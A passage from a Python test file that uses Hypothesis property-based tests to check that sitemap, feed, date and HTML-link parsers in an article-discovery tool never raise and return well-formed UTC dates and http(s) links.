def test_parsers_on_gzipped_input(body: bytes) -> None:
    compressed = gzip.compress(body)
    for parse in (parse_sitemap, parse_feed):
        with contextlib.suppress(DiscoveryError):
            parse(compressed, BASE)


_date_texts = st.one_of(
    st.text(max_size=40),
    st.datetimes(timezones=st.just(UTC)).map(lambda d: d.isoformat()),
    st.datetimes(
        timezones=st.builds(
            timezone, st.timedeltas(min_value=timedelta(hours=-23), max_value=timedelta(hours=23))
        )
    ).map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.strftime("%a, %d %b %Y %H:%M:%S +0000")),
    st.from_regex(r"\A\d{1,4}-\d{1,2}-\d{1,2}([Tt ]\d{1,2}:\d{1,2}(:\d{1,2})?)?[Zz]?\Z"),
)


@settings(max_examples=400, deadline=None)
@given(_date_texts)
def test_parse_date_never_raises_and_is_utc(value: str) -> None:
    parsed = parse_date(value)
    if parsed is not None:
        assert parsed.tzinfo is UTC
        assert parsed.year >= 1990
        assert parsed <= datetime.now(UTC) + timedelta(days=2)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_html_helpers_never_raise(html: str) -> None:
    for link in page_links(html, BASE):
        assert link.url.startswith(("http://", "https://"))
        assert isinstance(is_pagination_link(link), bool)
        assert isinstance(looks_like_article_url(link.url), bool)
    assert all(u.startswith("http") for u in feed_links_from_html(html, BASE))


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=80))
def test_url_heuristics_never_raise(text: str) -> None:
    assert isinstance(looks_like_article_url(text), bool)
    assert isinstance(looks_like_article_url("https://news.example/" + text), bool)
    assert isinstance(is_pagination_link(Link("https://news.example/" + text, text)), bool)
